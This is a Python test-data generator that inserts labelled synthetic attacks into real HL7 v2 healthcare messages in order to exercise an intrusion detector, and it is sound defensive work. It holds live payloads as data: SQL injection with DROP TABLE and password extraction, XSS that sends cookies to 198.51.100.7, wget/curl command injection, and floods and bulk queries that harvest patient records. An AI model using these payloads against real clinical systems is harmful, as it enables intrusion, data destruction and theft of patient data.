"""Documented HL7 v2 attack generators, inserted into real benign carrier messages (CDC samples).

No public data set labels attacks on HL7 v2 interfaces. Each generator below takes real benign
messages (``../shared/data/hl7v2-fhir-samples-cdc``) and changes them the way an attacker would; the
result is marked synthetic in MSH-10 (control id prefixed ``SYN``) so it is never mistaken for real
traffic. Each attack is named and carries the ATT&CK technique it stands for. The HL7 detector was
written by the same engineer as these generators (thresholds chosen first, from the HL7 standard and
interface-engine practice, then checked here): figures on them are a regression check, not an
independent detection rate.
"""

from __future__ import annotations

import random
from collections.abc import Callable, Sequence
from dataclasses import dataclass
from datetime import UTC, datetime, timedelta


@dataclass(frozen=True, slots=True)
class HL7Attack:
    """One attack instance: its name, ATT&CK techniques, the carrier it was built from, and the messages."""

    name: str
    techniques: tuple[str, ...]
    description: str
    carrier: str
    messages: tuple[str, ...]


def _msh(text: str) -> tuple[list[str], str]:
    head, _, rest = text.partition("\r")
    return head.split("|"), rest


def _join(msh: list[str], rest: str) -> str:
    return "|".join(msh) + ("\r" + rest if rest else "")


def _set_msh(text: str, **fields: str) -> str:
    """Replace MSH fields by number (``f3="APP"``); MSH-n is index n-1 of the '|' split."""
    msh, rest = _msh(text)
    for key, value in fields.items():
        n = int(key[1:])
        while len(msh) < n:
            msh.append("")
        msh[n - 1] = value
    return _join(msh, rest)


def _mark(text: str, tag: str) -> str:
    msh, _ = _msh(text)
    control = msh[9] if len(msh) > 9 else ""
    return _set_msh(text, f10=f"SYN{tag}{control}"[:40])


def _insert_after(text: str, segment: str, new: str) -> str:
    """Insert ``new`` after the first ``segment`` (or after MSH when absent)."""
    lines = text.split("\r")
    idx = next((i for i, s in enumerate(lines) if s.startswith(segment + "|")), 0)
    lines.insert(idx + 1, new)
    return "\r".join(lines)


def _replace_field(text: str, segment: str, field_no: int, value: str) -> str:
    lines = text.split("\r")
    for i, seg in enumerate(lines):
        if seg.startswith(segment + "|"):
            parts = seg.split("|")
            while len(parts) <= field_no:
                parts.append("")
            parts[field_no] = value
            lines[i] = "|".join(parts)
            return "\r".join(lines)
    return _insert_after(text, "MSH", f"{segment}|" + "|" * (field_no - 1) + value)


def sql_injection(carrier: str, rng: random.Random) -> tuple[str, ...]:
    """PID-5 patient name carries a tautology and a stacked DROP (T1190: an EHR that builds SQL from HL7)."""
    payload = rng.choice(
        ["O'Brien' OR '1'='1", "X'; DROP TABLE patients; --", "A' UNION SELECT password FROM users--"]
    )
    return (_mark(_replace_field(carrier, "PID", 5, payload), "SQL"),)


def script_injection(carrier: str, rng: random.Random) -> tuple[str, ...]:
    """OBX-5 result text carries stored XSS for the web viewer that renders results (T1059.007)."""
    payload = rng.choice(
        ["<script>fetch('//198.51.100.7/c?'+document.cookie)</script>", "<img src=x onerror=alert(1)>"]
    )
    return (_mark(_insert_after(carrier, "PID", f"OBX|99|TX|XSS^Note||{payload}||||||F"), "XSS"),)


def escaped_script_injection(carrier: str, rng: random.Random) -> tuple[str, ...]:
    """The same XSS hidden in HL7 hex escapes (\\Xhh\\) to pass naive filters (T1059.007, T1027)."""
    del rng
    hidden = "\\X3C736372697074\\>alert(1)\\X3C\\/script>"
    return (_mark(_insert_after(carrier, "PID", f"NTE|1||{hidden}"), "HEX"),)


def command_injection(carrier: str, rng: random.Random) -> tuple[str, ...]:
    """NTE-3 comment carries a shell command for an engine that shells out on notes (T1059)."""
    payload = rng.choice(
        ["; wget http://198.51.100.7/x -O /tmp/x", "$(curl -s http://198.51.100.7/s)", "`whoami`"]
    )
    return (_mark(_insert_after(carrier, "PID", f"NTE|1||{payload}"), "CMD"),)


def malformed_structure(carrier: str, rng: random.Random) -> tuple[str, ...]:
    """Parser-confusion input: lost encoding characters, a binary segment name, or control bytes (T1190)."""
    kind = rng.choice(["encoding", "segment", "control"])
    if kind == "encoding":
        return (_mark(_set_msh(carrier, f2=""), "MAL"),)
    if kind == "segment":
        return (_mark(_insert_after(carrier, "PID", "P\x01D|1|AAAA"), "MAL"),)
    return (_mark(_insert_after(carrier, "PID", "NTE|1||\x00\x00\x7f\x08overflow"), "MAL"),)


def oversized(carrier: str, rng: random.Random) -> tuple[str, ...]:
    """A 2 MB OBX value: buffer exhaustion against the interface engine (T1499)."""
    del rng
    return (_mark(_insert_after(carrier, "PID", "OBX|1|ED|PDF^Report||" + "A" * 2_000_000), "BIG"),)


def unknown_sender(carrier: str, rng: random.Random) -> tuple[str, ...]:
    """A rogue system sends as a new application/facility (T0848 rogue master, T1565.002)."""
    app = rng.choice(["LABSYNC", "UPDATER", "MEDBRIDGE"])
    return (_mark(_set_msh(carrier, f3=f"{app}^rogue^DNS", f4="UNKNOWN FACILITY"), "UNK"),)


def unseen_trigger(carrier: str, rng: random.Random) -> tuple[str, ...]:
    """A lab sender suddenly sends ADT updates / merges: spoofed demographic changes (T0855, T1565.002)."""
    mtype = rng.choice(["ADT^A08^ADT_A01", "ADT^A40^ADT_A39", "MDM^T02^MDM_T02"])
    return (_mark(_set_msh(carrier, f9=mtype), "TRG"),)


def flood(carrier: str, rng: random.Random, count: int = 400) -> tuple[str, ...]:
    """``count`` replays of one message within 40 s, new control ids each time (T1499 flooding)."""
    start = datetime(2024, 5, 6, 10, 0, tzinfo=UTC) + timedelta(minutes=rng.randrange(600))
    out = []
    for i in range(count):
        ts = (start + timedelta(milliseconds=100 * i)).strftime("%Y%m%d%H%M%S")
        out.append(_set_msh(carrier, f7=ts, f10=f"SYNFLD{i:05d}"))
    return tuple(out)


def bulk_query(carrier: str, rng: random.Random, count: int = 60) -> tuple[str, ...]:
    """A sender harvests demographics with ``count`` QBP^Q22 queries for different patients (T1213, T1119)."""
    msh, _ = _msh(carrier)
    start = datetime(2024, 5, 6, 2, 0, tzinfo=UTC) + timedelta(minutes=rng.randrange(120))
    out = []
    for i in range(count):
        ts = (start + timedelta(seconds=5 * i)).strftime("%Y%m%d%H%M%S")
        head = list(msh)
        while len(head) < 12:
            head.append("")
        head[6], head[8], head[9] = ts, "QBP^Q22^QBP_Q21", f"SYNQRY{i:05d}"
        out.append("|".join(head) + f"\rQPD|IHE PDQ Query|Q{i:05d}|@PID.3.1^{100000 + i}\rRCP|I|1^RD")
    return tuple(out)


def wildcard_query(carrier: str, rng: random.Random) -> tuple[str, ...]:
    """One QRY^A19 asking for every patient (QRD-8 = ``*``): enumeration in a single request (T1213)."""
    del rng
    msh, _ = _msh(carrier)
    head = list(msh)
    while len(head) < 12:
        head.append("")
    head[8], head[9] = "QRY^A19^QRY_A19", "SYNWLD00001"
    return ("|".join(head) + "\rQRD|20240506020000|R|I|Q1|||999^RD|*|DEM",)


def ack_anomaly(carrier: str, rng: random.Random) -> tuple[str, ...]:
    """A spoofed acknowledgement: an invalid MSA-1 code, hiding a failed delivery from the sender (T0856)."""
    msh, _ = _msh(carrier)
    head = list(msh)
    while len(head) < 12:
        head.append("")
    head[2], head[3], head[4], head[5] = head[4], head[5], head[2], head[3]
    head[8], head[9] = "ACK^R01^ACK", "SYNACK00001"
    code = rng.choice(["ZZ", "OK", "A"])
    return ("|".join(head) + f"\rMSA|{code}|{msh[9] if len(msh) > 9 else ''}",)


ATTACKS: dict[str, tuple[Callable[[str, random.Random], tuple[str, ...]], tuple[str, ...]]] = {
    "sql-injection": (sql_injection, ("T1190",)),
    "script-injection": (script_injection, ("T1059.007", "T1190")),
    "escaped-script-injection": (escaped_script_injection, ("T1059.007", "T1027")),
    "command-injection": (command_injection, ("T1059", "T1190")),
    "malformed-structure": (malformed_structure, ("T1190",)),
    "oversized": (oversized, ("T1499",)),
    "unknown-sender": (unknown_sender, ("T0848", "T1565.002")),
    "unseen-trigger": (unseen_trigger, ("T0855", "T1565.002")),
    "flood": (flood, ("T1499", "T0814")),
    "bulk-query": (bulk_query, ("T1213", "T1119")),
    "wildcard-query": (wildcard_query, ("T1213",)),
    "ack-anomaly": (ack_anomaly, ("T0856",)),
}


def generate(carriers: Sequence[str], *, per_attack: int = 10, seed: int = 7) -> list[HL7Attack]:
    """``per_attack`` instances of every attack, each on a carrier drawn (seeded) from ``carriers``."""
    rng = random.Random(seed)
    out: list[HL7Attack] = []
    for name, (fn, techniques) in ATTACKS.items():
        for _ in range(per_attack):
            carrier = rng.choice(list(carriers))
            out.append(
                HL7Attack(name, techniques, (fn.__doc__ or "").split("\n")[0], carrier, fn(carrier, rng))
            )
    return out


def main(argv: Sequence[str] | None = None) -> int:
    """``python -m healthsec.testing.hl7_attacks OUT.hl7 CARRIER.hl7 [--attack NAME]... [--seed N]``."""
    import argparse
    from pathlib import Path

    from healthsec.ingest.hl7.parse import split_messages

    parser = argparse.ArgumentParser(
        description="Write generated HL7 attacks built on a real carrier message."
    )
    parser.add_argument("out", type=Path)
    parser.add_argument("carrier", type=Path, help="a benign HL7 file; its first message is the carrier")
    parser.add_argument("--attack", action="append", choices=sorted(ATTACKS), help="default: all")
    parser.add_argument("--seed", type=int, default=7)
    args = parser.parse_args(argv)
    try:
        carriers = split_messages(args.carrier.read_text(encoding="utf-8", errors="replace"))
    except OSError as exc:
        parser.error(f"{args.carrier}: cannot read ({exc.strerror})")
    if not carriers:
        parser.error(f"{args.carrier}: no HL7 message")
    rng = random.Random(args.seed)
    lines: list[str] = []
    for name in args.attack or sorted(ATTACKS):
        fn, techniques = ATTACKS[name]
        for msg in fn(carriers[0], rng):
            lines.append(msg.replace("\r", "\n"))
        print(f"{name}: {', '.join(techniques)}")
    args.out.write_text("\n".join(lines) + "\n", encoding="utf-8")
    print(f"wrote {len(lines)} messages to {args.out}")
    return 0


if __name__ == "__main__":
    raise SystemExit(main())
